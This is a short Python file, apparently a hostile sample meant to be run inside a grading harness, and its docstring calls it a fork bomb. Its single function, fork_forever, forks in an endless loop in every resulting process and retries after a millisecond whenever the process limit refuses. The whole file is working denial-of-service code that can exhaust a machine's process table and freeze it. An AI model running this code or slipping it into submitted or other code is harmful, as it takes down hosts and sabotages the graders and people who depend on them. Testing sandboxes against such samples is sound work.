"""A fork bomb in a graded function."""

import os
import time


def fork_forever(*args, **kwargs):
    """Fork in a loop, in every process, forever; wait a little when the limit says no."""
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.001)
